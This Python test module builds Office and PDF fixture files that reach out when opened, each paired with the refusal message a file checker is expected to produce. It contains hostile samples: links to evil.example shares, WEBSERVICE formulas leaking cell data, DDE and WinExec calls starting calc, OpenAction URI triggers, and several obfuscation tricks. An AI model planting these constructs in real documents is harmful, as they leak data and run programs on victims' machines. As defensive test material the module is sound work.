"""Office and PDF files that call out when they are opened: each with the words of its refusal."""

import zlib

from tests.support.input.hostile_files import KEPT, REFUSED, RELS, Hostile, office, packed, pdf

W = '<w:document xmlns:w="w" xmlns:v="v" xmlns:o="o" xmlns:xlink="x">{}</w:document>'
SHARE = "\\\\evil.example\\share\\a"
LOADS, LINKS, STARTS = (
    "loads parts from elsewhere",
    "has a link to a file, a network folder",
    "starts another program",
)


def _runs(*codes: str, begin: str = "begin") -> str:
    """A field whose code is cut into these runs."""
    cut = "".join(f"<w:r><w:instrText>{code}</w:instrText></w:r>" for code in codes)
    return f'<w:fldChar w:fldCharType="{begin}"/>{cut}<w:fldChar w:fldCharType="end"/>'


def _docx(what: str, body: str, words: str, name: str = "word/document.xml") -> Hostile:
    return Hostile(what, "report.docx", office(parts={name: W.format(body)}), REFUSED, words)


def _rel(what: str, kind: str, target: str, ending: str = "docx", words: str = LOADS) -> Hostile:
    part = {"docx": "word/_rels/document.xml.rels", "xlsx": "xl/externalLinks/_rels/externalLink1.xml.rels"}
    parts = {part.get(ending, "ppt/slides/_rels/slide1.xml.rels"): RELS.format(kind, target)}
    return Hostile(what, f"report.{ending}", office(ending, parts), REFUSED, words)


def _xlsx(what: str, formula: str, words: str = LOADS, tag: str = "f") -> Hostile:
    sheet = f'<worksheet xmlns:x="x"><c><x:{tag}>{formula}</x:{tag}></c></worksheet>'
    return Hostile(what, "report.xlsx", office("xlsx", {"xl/worksheets/sheet1.xml": sheet}), REFUSED, words)


def _odt(what: str, body: str, words: str = LOADS) -> Hostile:
    content = f'<office xmlns:xlink="x" xmlns:table="t" xmlns:script="s">{body}</office>'
    return Hostile(what, "report.odt", office("odt", {"content.xml": content}), REFUSED, words)


def files() -> list[Hostile]:
    """All of them."""
    return [*_relations(), *_fields(), *_formulas(), *_others(), *_pdfs()]


def _relations() -> list[Hostile]:
    return [
        _rel("an object of a file (A9)", "oleObject", "file:///\\\\evil.example\\a.xls"),
        _rel("an object of this computer (A9)", "oleObject", "C:\\a.xls"),
        _rel("a template on the computer (A9)", "attachedTemplate", "file:///C:\\Templates\\house.dotx"),
        _rel("a frame (A9)", "frame", "https://evil.example/f.html"),
        _rel("another document (A9)", "subDocument", "other.docx"),
        _rel("a picture, its type in capitals (A9)", "IMAGE", "HTTPS://evil.example/a.png"),
        _rel("a film (A9)", "video", "https://evil.example/v.mp4", "pptx"),
        _rel("data of a mail merge (A9)", "mailMergeSource", SHARE),
        _rel("a workbook elsewhere (A9)", "externalLinkPath", "other.xlsx", "xlsx"),
        _rel("a kind nobody knows (A9)", "newThing", "https://evil.example/", "xlsx"),
        _rel("a link to a share (A9)", "hyperlink", SHARE, words=LINKS),
        _rel("a link to a share, in slashes (A9)", "hyperlink", "/\\evil.example/a", "pptx", LINKS),
        _rel("a link to a file (A9)", "hyperlink", " FILE:///C:/a", "xlsx", LINKS),
        _rel(
            "a link that starts a program (A9)",
            "hyperlink",
            "search-ms:query=a&amp;crumb=location:x",
            words=LINKS,
        ),
        Hostile(
            "a share without its mode (A9)",
            "report.docx",
            office(
                parts={
                    "word/_rels/a.xml.rels": RELS.format("image", SHARE).replace(' TargetMode="External"', "")
                }
            ),
            REFUSED,
            LOADS,
        ),
        Hostile(
            "a share in wide letters (A9)",
            "report.docx",
            office(
                parts={
                    "word/_rels/a.xml.rels": (
                        '<?xml version="1.0" encoding="UTF-16"?>' + RELS.format("image", SHARE)
                    ).encode("utf-16")
                }
            ),
            REFUSED,
            LOADS,
        ),
    ]


def _fields() -> list[Hostile]:
    codes = ("INCLUDEPICTURE", "INCLUDETEXT", "IMPORT", "DATABASE", "LINK", "includepicture")
    made = '<w:fldChar w:fldCharType="begin"/>' + _runs("QUOTE 68 68 69") + _runs(' "cmd"', begin="x")
    return [
        *(
            _docx(f"a field {code} (A9)", f'<w:fldSimple w:instr=" {code} &quot;{SHARE}&quot;"/>', LOADS)
            for code in codes
        ),
        _docx("a field cut into runs (A9)", _runs(" INC", "LUDE", f'PICTURE "{SHARE}"'), LOADS),
        _docx("a field in a header (A9)", _runs("INCLUDETEXT x"), LOADS, "word/header1.xml"),
        _docx("a field in a part of another name (A9)", _runs("INCLUDETEXT x"), LOADS, "other/main.xml"),
        _docx("a field that starts a program (A9)", '<w:fldSimple w:instr="DDE cmd"/>', STARTS),
        _docx("a field whose code fields make (A9)", made, "hides the function of a field"),
        _docx("a field that links to a share (A9)", _runs('HYPERLINK "\\\\\\\\evil.example\\\\a"'), LINKS),
        _docx("a picture of an old drawing (A9)", '<v:imagedata src="https://evil.example/a.png"/>', LOADS),
        _docx(
            "a mail merge (A9)",
            "<w:mailMerge><w:connectString/></w:mailMerge>",
            "a mail merge",
            "word/settings.xml",
        ),
        _docx("a document taken in (A9)", '<w:altChunk r="1"/>', "another document"),
    ]


def _formulas() -> list[Hostile]:
    table = "<x:table><x:connection/></x:table>"
    return [
        _xlsx("WEBSERVICE (A9)", '_xlfn.WEBSERVICE("https://evil.example/"&amp;A1)'),
        _xlsx("WEBSERVICE in small letters, deep (A9)", 'IF(A1,"x",sum(1,webservice (A2)))'),
        _xlsx("IMAGE (A9)", '_xlfn.IMAGE("https://evil.example/a.png")'),
        _xlsx("RTD (A9)", 'RTD("prog",,"x")'),
        _xlsx("CALL (A9)", 'CALL("kernel32","WinExec","JCJ","calc",0)'),
        _xlsx("REGISTER.ID (A9)", 'REGISTER.ID("a","b")'),
        _xlsx("IMPORTXML (A9)", 'IMPORTXML("https://evil.example/","//a")'),
        _xlsx("DDE (A9)", "cmd|'/C calc'!A0", STARTS),
        _xlsx("another workbook by its path (A9)", "'\\\\evil.example\\[b.xlsx]S'!A1"),
        _xlsx("a name that asks (A9)", "WEBSERVICE(A1)", tag="definedName"),
        _xlsx("a rule of colours that asks (A9)", "WEBSERVICE(A1)", tag="formula"),
        _xlsx("a link to a share by formula (A9)", f'HYPERLINK("{SHARE}","x")', LINKS),
        Hostile(
            "a data connection (A9)",
            "report.xlsx",
            office("xlsx", {"xl/connections.xml": table.replace("x:", "")}),
            REFUSED,
            "a data connection",
        ),
        Hostile(
            "a query (A9)",
            "report.xlsx",
            office("xlsx", {"xl/queryTables/q.xml": "<queryTable/>"}),
            REFUSED,
            "a query",
        ),
        Hostile(
            "a workbook behind it (A9)",
            "report.xlsx",
            office(
                "xlsx",
                {"xl/workbook.xml": "<w><externalReferences><externalReference/></externalReferences></w>"},
            ),
            REFUSED,
            "a link to another workbook",
        ),
    ]


def _others() -> list[Hostile]:
    inside = office("xlsx", {"xl/connections.xml": "<connections><connection/></connections>"})
    nested = office()
    for _ in range(4):
        nested = office(parts={"word/embeddings/a.docx": nested})
    types = '<Types><Override PartName="/word/x.bin" ContentType="application/vnd.a+xml"/></Types>'
    return [
        _odt("a picture elsewhere (A9)", '<image xlink:href="https://evil.example/a.png"/>'),
        _odt("a picture on a share (A9)", '<image xlink:href="//evil.example/a.png"/>'),
        _odt("a picture beside the document (A9)", '<image xlink:href="../../a.png"/>'),
        _odt("a section of another text (A9)", '<section-source xlink:href="file:///a.odt"/>'),
        _odt("a link to a file (A9)", '<a xlink:href="file:///etc/passwd"/>', LINKS),
        _odt("a table that asks (A9)", '<cell table:formula="of:=WEBSERVICE([.A1])"/>'),
        _odt(
            "a script when it opens (A9)",
            '<script:event-listener xlink:href="vnd.sun.star.script:a"/>',
            STARTS,
        ),
        Hostile(
            "an old drawing elsewhere (A9)",
            "report.xlsx",
            office("xlsx", {"xl/drawings/v.vml": '<xml><v:imagedata src="http://evil.example/a"><br></xml>'}),
            REFUSED,
            LOADS,
        ),
        Hostile(
            "a new drawing elsewhere (A9)",
            "report.pptx",
            office(
                "pptx",
                {"ppt/media/a.svg": '<svg xmlns:xlink="x"><image href="http://evil.example/a"/></svg>'},
            ),
            REFUSED,
            LOADS,
        ),
        Hostile(
            "slides that start a program (A9)",
            "report.pptx",
            office("pptx", {"ppt/slides/slide1.xml": '<s><a action="ppaction://program"/></s>'}),
            REFUSED,
            STARTS,
        ),
        Hostile(
            "the links of a document begin on a share (A9)",
            "report.docx",
            office(parts={"docProps/app.xml": f"<p><HyperlinkBase>{SHARE}</HyperlinkBase></p>"}),
            REFUSED,
            LINKS,
        ),
        Hostile(
            "a workbook inside that asks (A9)",
            "report.docx",
            office(parts={"word/embeddings/a.xlsx": inside}),
            REFUSED,
            "In “word/embeddings/a.xlsx”",
        ),
        Hostile("documents in documents (A9)", "report.docx", nested, REFUSED, "cannot be checked"),
        Hostile(
            "a part under another ending (A9)",
            "report.docx",
            office(parts={"[Content_Types].xml": types}),
            REFUSED,
            "does not match its file ending",
        ),
        Hostile(
            "XML without a floor (A9)",
            "report.docx",
            office(parts={"word/a.xml": "<a>" * 50_000 + "</a>" * 50_000}),
            REFUSED,
            "much larger",
        ),
        Hostile(
            "a link to the web, one to an address, and one inside",
            "report.docx",
            office(parts={"word/_rels/document.xml.rels": RELS.format("hyperlink", "mailto:a@b.example")}),
            KEPT,
        ),
    ]


def _pdfs() -> list[Hostile]:
    opens, itself = "opens other files", "starts an action when it is opened"
    far = b"<< /S /GoToR /F (\\\\\\\\evil.example\\\\a.pdf) /D [0 /Fit] >>"
    uri = b"<< /S /URI /URI (https://evil.example/) >>"
    numbers = b"9 0 " + uri
    index = b"9 0 " + b" " * (len(numbers) - 4)  # of one object, which begins at the first place
    stream = packed(zlib.compress(index + uri), pad=b"").replace(b"/First 4", b"/First %d" % len(index))
    found = [
        ("a jump into a share", pdf(far), opens),
        ("the same, written out", pdf(far.replace(b"GoToR", b"#47oToR")), opens),
        ("the same, packed", pdf(packed(zlib.compress(b"1 0 " + far))), opens),
        (
            "the same, packed and written out",
            pdf(packed(zlib.compress(b"1 0 " + far.replace(b"GoToR", b"GoTo#52")))),
            opens,
        ),
        ("an address asked when it opens", pdf(b"<< /OpenAction " + uri + b" >>"), itself),
        ("the same by reference", pdf(b"<< /OpenAction 5 0 R >>", uri), itself),
        ("the same by a packed reference", pdf(b"<< /Open#41ction 9 0 R >>", stream), itself),
        (
            "the same by the next action",
            pdf(b"<< /OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >> >>", uri),
            itself,
        ),
        ("the same when a page opens", pdf(b"<< /AA << /O 5 0 R >> >>", uri), itself),
        (
            "the same behind a zero byte",
            pdf(b"<< /AA\x00<< /O << /S\x00/URI\x00/URI (https://a) >> >> >>"),
            itself,
        ),
        (
            "an action that is nowhere",
            pdf(b"<< /OpenAction 99 0 R >>"),
            "refers to an action that it does not contain",
        ),
        ("a link to a share", pdf(b"<< /S /URI /URI (\\\\\\\\evil.example\\\\a) >>"), LINKS),
        ("a link to a file, in octal", pdf(b"<< /S /URI /URI (\\146ile:///a) >>"), LINKS),
        ("a link to a file, in digits", pdf(b"<< /S /URI /URI <66 69 6c 65 3a 2f> >>"), LINKS),
        ("a link to a file, in wide letters", pdf(b"<< /S /URI /URI <FEFF00660069006c0065003a> >>"), LINKS),
        (
            "a link to a file behind a comment",
            pdf(b"<< /S /URI /URI %" + b"x" * 9_000 + b"\n(file:///a) >>"),
            LINKS,
        ),
        (
            "a link to a file, filled up",
            pdf(b"<< /S /URI /URI (fi" + b"\\\n" * 300 + b"le:///a) >>"),
            "cannot be checked",
        ),
        (
            "a link whose address lies elsewhere",
            pdf(b"<< /S /URI /URI 5 0 R >>", b"(file:///a)"),
            "cannot be checked",
        ),
        ("comments before its values", pdf(b"<< /F %x\n 1 >>" * 40), "cannot be checked"),
        ("links begin at a file", pdf(b"<< /URI << /Base (file:///a) >> >>"), LINKS),
        (
            "a stream of another file",
            pdf(b"<< /F (https://evil.example/a) /FFilter /FlateDecode >>"),
            "reads other files",
        ),
        ("a file named by its share", pdf(b"<< /Type /Filespec /UF (\\\\\\\\evil.example\\\\a) >>"), opens),
        ("media", pdf(b"<< /S /Rendition /OP 0 >>"), "plays media"),
        ("a form that asks", pdf(b"<< /S /ImportData /F (a.fdf) >>"), "reads other files"),
        ("a protected link", pdf(uri, b"<< /Encrypt 6 0 R >>"), "protected"),
    ]
    return [Hostile(f"{what} (A9)", "report.pdf", content, REFUSED, words) for what, content, words in found]
